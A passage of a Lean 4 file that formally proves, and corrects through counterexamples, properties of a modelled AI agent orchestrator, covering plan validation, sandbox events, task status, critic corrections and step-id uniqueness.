    executeShell table1 "task-1" (Transport.throws "ECONNREFUSED") =
      Except.ok ⟨false, -1, "", "ECONNREFUSED", some "ECONNREFUSED"⟩ :=
  ⟨((facade_not_found_spec [] "sb-x").1 rfl).1 _,
   ((facade_not_found_spec table1 "task-1").2 ⟨"c0ffee"⟩ (by decide)).1 "ECONNREFUSED"⟩

/-- C7 (counterexample): a planner response that parses to the empty
JSON array is returned as the empty plan — `generatePlan` does not
raise on a zero-step plan. -/
theorem generatePlan_empty_cex :
    generatePlan registry5 (ParsedPlan.arr []) = Except.ok [] := rfl

/-- C7 (amended): `generatePlan` returns the empty plan, without
raising, when the parsed response is an empty array; every step it does
return passed validation (its tool resolves in the registry) and was
defaulted to `status = pending`. -/
theorem generatePlan_spec (reg : List String) :
    generatePlan reg (ParsedPlan.arr []) = Except.ok [] ∧
    (∀ parsed l, generatePlan reg parsed = Except.ok l →
      ∀ s ∈ l, reg.contains s.tool = true ∧ s.status = StepStatus.pending) := by
  constructor
  · rfl
  · intro parsed l h s hs
    unfold generatePlan at h
    rcases hfind : parsed.toList.findSome? (validateRaw reg) with _ | e
    · rw [hfind] at h
      simp only [Except.ok.injEq] at h
      subst h
      obtain ⟨r, hr, rfl⟩ := List.mem_map.mp hs
      have hv : validateRaw reg r = none := by
        have := List.findSome?_eq_none_iff.mp hfind r hr
        exact this
      unfold validateRaw at hv
      rcases hfields : (decide (r.id = "" ∨ r.tool = "" ∨ r.description = "" ∨ ¬ r.hasArguments = true)) with _ | _
      · rw [if_neg (of_decide_eq_false hfields)] at hv
        by_cases hreg : reg.contains r.tool = true
        · exact ⟨hreg, rfl⟩
        · rw [if_pos (by simpa using hreg)] at hv
          exact absurd hv (by simp)
      · rw [if_pos (of_decide_eq_true hfields)] at hv
        exact absurd hv (by simp)
    · rw [hfind] at h
      exact absurd h (by simp)

/-- Witness for C7 (amended) at a concrete input: a one-step parsed
plan comes back validated and pending. -/
theorem generatePlan_spec_witness :
    generatePlan registry5
        (ParsedPlan.arr [⟨"step-1", "file_write", "write the file", true, some true⟩]) =
      Except.ok [{ id := "step-1", description := "write the file", tool := "file_write",
                   status := StepStatus.pending, result := none, required := true }] ∧
    registry5.contains "file_write" = true := by
  refine ⟨rfl, ?_⟩
  have h := (generatePlan_spec registry5).2
    (ParsedPlan.arr [⟨"step-1", "file_write", "write the file", true, some true⟩])
    [{ id := "step-1", description := "write the file", tool := "file_write",
       status := StepStatus.pending, result := none, required := true }]
    rfl
    { id := "step-1", description := "write the file", tool := "file_write",
      status := StepStatus.pending, result := none, required := true }
    (by decide)
  exact h.1

/-- C1 (counterexample): a task that runs to completion has exactly one
`sandbox_created` event and no `sandbox_destroyed` event at all — no
code path ever appends `sandbox_destroyed`, so the claimed
"exactly one `sandbox_created` followed by exactly one
`sandbox_destroyed`" fails on every terminating run. -/
theorem sandbox_lifecycle_cex :
    ((processTask true cfgCritic (PlannerOutcome.returns [sampleStep]) oracleOnTrack 5).map
      (fun wr => (wr.status, wr.events.count "sandbox_created",
                  wr.events.count "sandbox_destroyed"))) =
      some ("succeeded", 1, 0) := by decide

/-- C1 (amended): for every task that reaches running, the event log
contains exactly one `sandbox_created` when sandbox creation succeeded
(none when it failed) and never contains a `sandbox_destroyed` event;
the worker nonetheless invokes `sandboxManager.destroy` exactly once,
in its `finally` block, on every terminating path. -/
theorem sandbox_lifecycle (createOk : Bool) (cfg : OrchConfig)
    (planner : PlannerOutcome) (oracle : OrchOracle) (fuel : Nat) (wr : WorkerResult)
    (h : processTask createOk cfg planner oracle fuel = some wr) :
    wr.events.count "sandbox_created" = (if createOk then 1 else 0) ∧
    wr.events.count "sandbox_destroyed" = 0 ∧
    wr.destroyCalls = 1 := by
  rcases createOk with _ | _
  · rw [processTask_false] at h
    obtain rfl := Option.some.inj h
    refine ⟨by decide, by decide, rfl⟩
  · rcases horch : orchRun cfg planner oracle fuel with _ | r
    · rw [processTask_true_none cfg planner oracle fuel horch] at h
      exact absurd h (by simp)
    · have hc := orchRun_count_zero cfg planner oracle fuel r "sandbox_created"
        horch (by decide) (by decide)
      have hd := orchRun_count_zero cfg planner oracle fuel r "sandbox_destroyed"
        horch (by decide) (by decide)
      rcases hra : r.raised with _ | _
      · rw [processTask_true_ok cfg planner oracle fuel r horch hra] at h
        obtain rfl := Option.some.inj h
        refine ⟨?_, ?_, rfl⟩
        · simp only [List.count_append, hc]
          decide
        · simp only [List.count_append, hd]
          decide
      · rw [processTask_true_raised cfg planner oracle fuel r horch hra] at h
        obtain rfl := Option.some.inj h
        refine ⟨?_, ?_, rfl⟩
        · simp only [List.count_append, hc]
          decide
        · simp only [List.count_append, hd]
          decide

/-- Witness for C1 (amended) at a concrete input: a task whose sandbox
creation fails has no `sandbox_created`, no `sandbox_destroyed`, and
one `destroy` call. -/
theorem sandbox_lifecycle_witness :
    wrCreateFail.events.count "sandbox_created" = (if false then 1 else 0) ∧
    wrCreateFail.events.count "sandbox_destroyed" = 0 ∧
    wrCreateFail.destroyCalls = 1 :=
  sandbox_lifecycle false cfgCritic (PlannerOutcome.returns [sampleStep])
    oracleOnTrack 5 wrCreateFail rfl

/-- C3: when the step loop ends without an exception, `task_succeeded`
is appended (as the final event, exactly once) iff every step of the
final stored plan is `completed`, and `task_completed_with_failures`
otherwise; the last conjunct checks the boundary case — a one-step plan
whose only step has `required = false` and fails produces
`task_completed_with_failures` while the worker records overall status
`succeeded`. -/
theorem orchestrator_final_status (cfg : OrchConfig) (planner : PlannerOutcome)
    (oracle : OrchOracle) (fuel : Nat) (r : OrchResult)
    (h : orchRun cfg planner oracle fuel = some r) (hr : r.raised = false) :
    ((r.dbPlan.map (fun p => p.all (fun s => s.status = StepStatus.completed)) = some true →
      r.events.getLast? = some "task_succeeded" ∧
      r.events.count "task_succeeded" = 1 ∧
      r.events.count "task_completed_with_failures" = 0) ∧
     (r.dbPlan.map (fun p => p.all (fun s => s.status = StepStatus.completed)) = some false →
      r.events.getLast? = some "task_completed_with_failures" ∧
      r.events.count "task_succeeded" = 0 ∧
      r.events.count "task_completed_with_failures" = 1)) ∧
    ((processTask true cfgCritic (PlannerOutcome.returns [optionalStep]) oracleFailing 5).map
      (fun wr => (wr.status, wr.events.count "task_completed_with_failures",
                  wr.events.count "task_succeeded"))) =
      some ("succeeded", 1, 0) := by
  refine ⟨?_, by decide⟩
  rcases planner with msg | plan
  · simp only [orchRun, Option.some.injEq] at h
    obtain rfl := h
    simp at hr
  · rcases hloop : orchLoop cfg oracle fuel
        { currentPlan := plan, i := 0, k := 0, dbPlan := plan,
          events := ["planning_started", "plan_generated", "execution_started"],
          snapshots := [plan], criticCalls := 0 } with _ | stexc
    · simp only [orchRun, hloop] at h
      exact absurd h (by simp)
    · obtain ⟨st, exc⟩ := stexc
      simp only [orchRun, hloop] at h
      have hsucc := orchLoop_count cfg oracle fuel _ st exc "task_succeeded" hloop (by decide)
      have hfails := orchLoop_count cfg oracle fuel _ st exc
        "task_completed_with_failures" hloop (by decide)
      rcases exc with _ | _
      · simp only [Option.some.injEq] at h
        obtain rfl := h
        rcases hall : st.dbPlan.all (fun s => decide (s.status = StepStatus.completed)) with _ | _
        · constructor
          · intro hx
            simp [hall] at hx
          · intro _
            simp only [hall]
            refine ⟨List.getLast?_concat _, ?_, ?_⟩
            · simp only [List.count_append, hsucc]
              decide
            · simp only [List.count_append, hfails]
              decide
        · constructor
          · intro _
            simp only [hall]
            refine ⟨List.getLast?_concat _, ?_, ?_⟩
            · simp only [List.count_append, hsucc]
              decide
            · simp only [List.count_append, hfails]
              decide
          · intro hx
            simp [hall] at hx
      · simp only [Option.some.injEq] at h
        obtain rfl := h
        simp at hr

/-- Witness for C3 at a concrete input: the one-step on-track run ends
with a single `task_succeeded`. -/
theorem orchestrator_final_status_witness :
    rSample.events.getLast? = some "task_succeeded" ∧
    rSample.events.count "task_succeeded" = 1 ∧
    rSample.events.count "task_completed_with_failures" = 0 :=
  (orchestrator_final_status cfgCritic (PlannerOutcome.returns [sampleStep])
    oracleOnTrack 2 rSample (by decide) rfl).1.1 (by decide)

/-- C9: whenever `OrchestratorService.run` returns without throwing the
worker records terminal status `succeeded` and appends `task_completed`
— even when a required step failed and the orchestrator recorded
`execution_stopped` and `task_completed_with_failures` (checked
concretely in the last conjunct) — and the status is `failed` exactly
when sandbox creation or orchestration threw. -/
theorem worker_terminal_status (createOk : Bool) (cfg : OrchConfig)
    (planner : PlannerOutcome) (oracle : OrchOracle) (fuel : Nat) (wr : WorkerResult)
    (h : processTask createOk cfg planner oracle fuel = some wr) :
    ((wr.status = "succeeded") ↔
      (createOk = true ∧ ∃ r, orchRun cfg planner oracle fuel = some r ∧ r.raised = false)) ∧
    (wr.status = "succeeded" →
      wr.events.getLast? = some "task_completed" ∧ wr.rethrown = false) ∧
    ((wr.status = "failed") ↔
      (createOk = false ∨ ∃ r, orchRun cfg planner oracle fuel = some r ∧ r.raised = true)) ∧
    ((processTask true cfgCritic (PlannerOutcome.returns [sampleStep, sampleStep2])
        oracleFailing 5).map
      (fun w => (w.status, w.events.count "execution_stopped",
                 w.events.count "task_completed_with_failures", w.events.getLast?))) =
      some ("succeeded", 1, 1, some "task_completed") := by
  refine ⟨?_, ?_, ?_, by decide⟩ <;> rcases createOk with _ | _
  · rw [processTask_false] at h
    obtain rfl := Option.some.inj h
    exact iff_of_false (by decide) (fun hx => absurd hx.1 (by decide))
  · rcases horch : orchRun cfg planner oracle fuel with _ | r
    · rw [processTask_true_none cfg planner oracle fuel horch] at h
      exact absurd h (by simp)
    · rcases hra : r.raised with _ | _
      · rw [processTask_true_ok cfg planner oracle fuel r horch hra] at h
        obtain rfl := Option.some.inj h
        exact iff_of_true rfl ⟨rfl, r, rfl, hra⟩
      · rw [processTask_true_raised cfg planner oracle fuel r horch hra] at h
        obtain rfl := Option.some.inj h
        constructor
        · intro hx
          simp at hx
        · rintro ⟨-, r2, hr2, hra2⟩
          obtain rfl := Option.some.inj hr2
          rw [hra] at hra2
          exact absurd hra2 (by decide)
  · rw [processTask_false] at h
    obtain rfl := Option.some.inj h
    intro hx
    exact absurd hx (by decide)
  · rcases horch : orchRun cfg planner oracle fuel with _ | r
    · rw [processTask_true_none cfg planner oracle fuel horch] at h
      exact absurd h (by simp)
    · rcases hra : r.raised with _ | _
      · rw [processTask_true_ok cfg planner oracle fuel r horch hra] at h
        obtain rfl := Option.some.inj h
        intro _
        exact ⟨List.getLast?_concat _, rfl⟩
      · rw [processTask_true_raised cfg planner oracle fuel r horch hra] at h
        obtain rfl := Option.some.inj h
        intro hx
        simp at hx
  · rw [processTask_false] at h
    obtain rfl := Option.some.inj h
    exact iff_of_true (by decide) (Or.inl rfl)
  · rcases horch : orchRun cfg planner oracle fuel with _ | r
    · rw [processTask_true_none cfg planner oracle fuel horch] at h
      exact absurd h (by simp)
    · rcases hra : r.raised with _ | _
      · rw [processTask_true_ok cfg planner oracle fuel r horch hra] at h
        obtain rfl := Option.some.inj h
        constructor
        · intro hx
          simp at hx
        · rintro (hx | ⟨r2, hr2, hra2⟩)
          · exact absurd hx (by decide)
          · obtain rfl := Option.some.inj hr2
            rw [hra] at hra2
            exact absurd hra2 (by decide)
      · rw [processTask_true_raised cfg planner oracle fuel r horch hra] at h
        obtain rfl := Option.some.inj h
        exact iff_of_true rfl (Or.inr ⟨r, rfl, hra⟩)

/-- Witness for C9 at a concrete input: the successful one-step run
has worker status `succeeded`, ends with `task_completed`, and does
not re-throw. -/
theorem worker_terminal_status_witness :
    (({ events := ["task_started", "sandbox_created"] ++ rSample.events ++ ["task_completed"],
        status := "succeeded", destroyCalls := 1, rethrown := false,
        dbPlan := rSample.dbPlan } : WorkerResult).status = "succeeded") ∧
    ({ events := ["task_started", "sandbox_created"] ++ rSample.events ++ ["task_completed"],
       status := "succeeded", destroyCalls := 1, rethrown := false,
       dbPlan := rSample.dbPlan } : WorkerResult).rethrown = false := by
  have h := worker_terminal_status true cfgCritic (PlannerOutcome.returns [sampleStep])
    oracleOnTrack 2
    { events := ["task_started", "sandbox_created"] ++ rSample.events ++ ["task_completed"],
      status := "succeeded", destroyCalls := 1, rethrown := false,
      dbPlan := rSample.dbPlan } (by decide)
  exact ⟨(h.1.mpr ⟨rfl, rSample, by decide, rfl⟩), (h.2.1 rfl).2⟩

/-- C6 (counterexample): with the critic enabled, a step after which
the critic reports on-track produces no `critic_evaluation` event —
the orchestrator calls the critic after every executed step (one call,
one executed step here) but appends `critic_evaluation` only when the
verdict is off-track with confidence at or above the threshold. -/
theorem critic_events_cex :
    ((orchRun cfgCritic (PlannerOutcome.returns [sampleStep]) oracleOnTrack 5).map
      (fun r => (r.criticCalls, r.events.count "step_completed",
                 r.events.count "critic_evaluation"))) = some (1, 1, 0) ∧
    cfgCritic.enableCritic = true := by decide

/-- C6 (amended): when the critic is enabled the orchestrator calls it
after every executed step, but appends `critic_evaluation` only when
the evaluation is off-track with confidence at or above the threshold;
in that case, when corrective steps are returned, they are spliced in
immediately after the current index and `correction_applied` is
appended. -/
theorem critic_interaction_per_step (cfg : OrchConfig) (oracle : OrchOracle)
    (st : LoopState) (step : Step)
    (hnoexn : (loopIter cfg oracle st step).isExn = false) :
    ((loopIter cfg oracle st step).state.criticCalls =
      st.criticCalls + (if cfg.enableCritic = true then 1 else 0)) ∧
    ((loopIter cfg oracle st step).state.events.count "critic_evaluation" =
      st.events.count "critic_evaluation" +
        (if cfg.enableCritic = true ∧ ¬ (oracle.critic st.k).isOnTrack = true ∧
            cfg.criticConfidenceThreshold ≤ (oracle.critic st.k).confidence
         then 1 else 0)) ∧
    ((loopIter cfg oracle st step).state.events.count "correction_applied" =
      st.events.count "correction_applied" +
        (if cfg.enableCritic = true ∧ ¬ (oracle.critic st.k).isOnTrack = true ∧
            cfg.criticConfidenceThreshold ≤ (oracle.critic st.k).confidence ∧
            (oracle.corrections st.k).isEmpty = false
         then 1 else 0)) ∧
    ((loopIter cfg oracle st step).state.currentPlan =
      (if cfg.enableCritic = true ∧ ¬ (oracle.critic st.k).isOnTrack = true ∧
          cfg.criticConfidenceThreshold ≤ (oracle.critic st.k).confidence ∧
          (oracle.corrections st.k).isEmpty = false
       then st.currentPlan.take (st.i + 1) ++ oracle.corrections st.k ++
              st.currentPlan.drop (st.i + 1)
       else st.currentPlan)) := by
  rcases hdb : updateStepDb st.dbPlan step.id
      (executeStep cfg.registry step (oracle.handler st.k)) with _ | db1
  · simp only [loopIter, hdb, LoopRes.isExn] at hnoexn
    exact absurd hnoexn (by decide)
  · obtain ⟨hcalls, hevents, hplan⟩ := criticPhase_spec cfg oracle
      { st with
        events := st.events ++ ["step_started", "step_completed"],
        dbPlan := db1,
        snapshots := st.snapshots ++ [db1] }
    dsimp only at hcalls hevents hplan
    have c1 : (["step_started", "step_completed"] : List String).count "critic_evaluation" = 0 :=
      by decide
    have c2 : (["step_started", "step_completed"] : List String).count "correction_applied" = 0 :=
      by decide
    have c3 : (["execution_stopped"] : List String).count "critic_evaluation" = 0 := by decide
    have c4 : (["execution_stopped"] : List String).count "correction_applied" = 0 := by decide
    have main : ∀ tail : List String,
        tail.count "critic_evaluation" = 0 →
        tail.count "correction_applied" = 0 →
        ((criticPhase cfg oracle
          { st with
            events := st.events ++ ["step_started", "step_completed"],
            dbPlan := db1,
            snapshots := st.snapshots ++ [db1] }).criticCalls =
            st.criticCalls + (if cfg.enableCritic = true then 1 else 0)) ∧
        (((criticPhase cfg oracle
          { st with
            events := st.events ++ ["step_started", "step_completed"],
            dbPlan := db1,
            snapshots := st.snapshots ++ [db1] }).events ++ tail).count "critic_evaluation" =
          st.events.count "critic_evaluation" +
            (if cfg.enableCritic = true ∧ ¬ (oracle.critic st.k).isOnTrack = true ∧
                cfg.criticConfidenceThreshold ≤ (oracle.critic st.k).confidence
             then 1 else 0)) ∧
        (((criticPhase cfg oracle
          { st with
            events := st.events ++ ["step_started", "step_completed"],
            dbPlan := db1,
            snapshots := st.snapshots ++ [db1] }).events ++ tail).count "correction_applied" =
          st.events.count "correction_applied" +
            (if cfg.enableCritic = true ∧ ¬ (oracle.critic st.k).isOnTrack = true ∧
                cfg.criticConfidenceThreshold ≤ (oracle.critic st.k).confidence ∧
                (oracle.corrections st.k).isEmpty = false
             then 1 else 0)) ∧
        ((criticPhase cfg oracle
          { st with
            events := st.events ++ ["step_started", "step_completed"],
            dbPlan := db1,
            snapshots := st.snapshots ++ [db1] }).currentPlan =
          (if cfg.enableCritic = true ∧ ¬ (oracle.critic st.k).isOnTrack = true ∧
              cfg.criticConfidenceThreshold ≤ (oracle.critic st.k).confidence ∧
              (oracle.corrections st.k).isEmpty = false
           then st.currentPlan.take (st.i + 1) ++ oracle.corrections st.k ++
                  st.currentPlan.drop (st.i + 1)
           else st.currentPlan)) := by
      intro tail ht1 ht2
      by_cases htrig : cfg.enableCritic = true ∧ ¬ (oracle.critic st.k).isOnTrack = true ∧
          cfg.criticConfidenceThreshold ≤ (oracle.critic st.k).confidence
      · by_cases hemp : (oracle.corrections st.k).isEmpty = true
        · have hext : ¬ (cfg.enableCritic = true ∧ ¬ (oracle.critic st.k).isOnTrack = true ∧
              cfg.criticConfidenceThreshold ≤ (oracle.critic st.k).confidence ∧
              (oracle.corrections st.k).isEmpty = false) := by
            rintro ⟨-, -, -, hx⟩
            rw [hemp] at hx
            exact absurd hx (by decide)
          rw [hcalls, hevents, hplan, if_pos htrig, if_pos htrig, if_pos hemp,
            if_neg hext, if_neg hext]
          refine ⟨rfl, ?_, ?_, rfl⟩
          · simp [List.count_append, c1, ht1]
          · simp [List.count_append, c2, ht2]
        · have hext : cfg.enableCritic = true ∧ ¬ (oracle.critic st.k).isOnTrack = true ∧
              cfg.criticConfidenceThreshold ≤ (oracle.critic st.k).confidence ∧
              (oracle.corrections st.k).isEmpty = false :=
            ⟨htrig.1, htrig.2.1, htrig.2.2, by simpa using hemp⟩
          rw [hcalls, hevents, hplan, if_pos htrig, if_pos htrig, if_neg hemp,
            if_pos hext, if_pos hext]
          refine ⟨rfl, ?_, ?_, rfl⟩
          · simp [List.count_append, c1, ht1]
          · simp [List.count_append, c2, ht2]
      · have hext : ¬ (cfg.enableCritic = true ∧ ¬ (oracle.critic st.k).isOnTrack = true ∧
            cfg.criticConfidenceThreshold ≤ (oracle.critic st.k).confidence ∧
            (oracle.corrections st.k).isEmpty = false) := by
          rintro ⟨ha, hb, hc, -⟩
          exact htrig ⟨ha, hb, hc⟩
        rw [hcalls, hevents, hplan, if_neg htrig, if_neg htrig, if_neg hext, if_neg hext]
        refine ⟨rfl, ?_, ?_, rfl⟩
        · simp [List.count_append, c1, ht1]
        · simp [List.count_append, c2, ht2]
    by_cases hfail : (executeStep cfg.registry step (oracle.handler st.k)).status =
        StepStatus.failed ∧ step.required = true
    · simp only [loopIter, hdb, if_pos hfail, LoopRes.state]
      exact main ["execution_stopped"] c3 c4
    · simp only [loopIter, hdb, if_neg hfail, LoopRes.state]
      obtain ⟨m1, m2, m3, m4⟩ := main [] (by decide) (by decide)
      refine ⟨m1, ?_, ?_, m4⟩
      · simpa using m2
      · simpa using m3

/-- Witness for C6 (amended) at a concrete input: an enabled critic
that reports off-track with confidence `0.9 ≥ 0.7` and one corrective
step yields one critic call, one `critic_evaluation`, one
`correction_applied`, and the splice at index `i + 1`. -/
theorem critic_interaction_per_step_witness :
    (loopIter cfgCritic oracleFreshCorrection st0ex sampleStep).state.criticCalls =
      st0ex.criticCalls + (if cfgCritic.enableCritic = true then 1 else 0) :=
  (critic_interaction_per_step cfgCritic oracleFreshCorrection st0ex sampleStep
    (by decide)).1

/-- C5 (counterexample): nothing validates corrective-step ids against
the existing plan: a corrective step whose id equals an existing step's
id is spliced in verbatim, and the stored plan then carries two steps
with id `step-1` — duplicate ids are reachable during execution. -/
theorem plan_ids_cex :
    ((orchRun cfgCritic (PlannerOutcome.returns [sampleStep]) oracleDupCorrection 5).map
      (fun r => r.snapshots.map (fun p => p.map Step.id))) =
      some [["step-1"], ["step-1"], ["step-1", "step-1"], ["step-1", "step-1"]] ∧
    ¬ (["step-1", "step-1"] : List String).Nodup := by decide

/-- C5 (amended): step-id uniqueness holds at every moment (in every
stored plan state and the final plan) provided the planner's ids
together with the ids of every corrective plan the critic can supply
are pairwise distinct; the source itself enforces no such freshness. -/
theorem plan_ids_nodup (cfg : OrchConfig) (oracle : OrchOracle) (plan : List Step)
    (fuel : Nat) (r : OrchResult)
    (h : orchRun cfg (PlannerOutcome.returns plan) oracle fuel = some r)
    (hfresh : ((((plan.map Step.id : List String)) : Multiset String) +
               sumCorrIds oracle fuel).Nodup) :
    (∀ p ∈ r.snapshots, (p.map Step.id).Nodup) ∧
    (∀ p, r.dbPlan = some p → (p.map Step.id).Nodup) := by
  rcases hloop : orchLoop cfg oracle fuel
      { currentPlan := plan, i := 0, k := 0, dbPlan := plan,
        events := ["planning_started", "plan_generated", "execution_started"],
        snapshots := [plan], criticCalls := 0 } with _ | stexc
  · simp only [orchRun, hloop] at h
    exact absurd h (by simp)
  · obtain ⟨st, exc⟩ := stexc
    simp only [orchRun, hloop] at h
    have hplanNodup : (plan.map Step.id).Nodup :=
      Multiset.coe_nodup.mp
        (Multiset.nodup_of_le (Multiset.le_add_right _ _) hfresh)
    have hmain := orchLoop_ids cfg oracle ((plan.map Step.id : List String)) fuel hfresh
      fuel _ st exc hloop (by simp) (Multiset.le_add_right _ _) rfl
      (by
        intro p hp
        rw [List.mem_singleton.mp hp]
        exact hplanNodup)
    obtain ⟨hs, hdbN, -⟩ := hmain
    rcases exc with _ | _
    · simp only [Option.some.injEq] at h
      obtain rfl := h
      refine ⟨hs, ?_⟩
      intro p hp
      obtain rfl := Option.some.inj hp
      exact hdbN
    · simp only [Option.some.injEq] at h
      obtain rfl := h
      refine ⟨hs, ?_⟩
      intro p hp
      obtain rfl := Option.some.inj hp
      exact hdbN

/-- Witness for C5 (amended) at a concrete input: with the corrective
id `correction-1` fresh with respect to the plan, the first stored
snapshot of the spliced run has distinct ids. -/
theorem plan_ids_nodup_witness :
    (([sampleStep, correctiveFreshDone] : List Step).map Step.id).Nodup :=
  (plan_ids_nodup cfgCritic oracleFreshCorrection [sampleStep] 5 rFresh (by decide)
    (by decide)).2 [sampleStep, correctiveFreshDone] (by decide)

end Titan
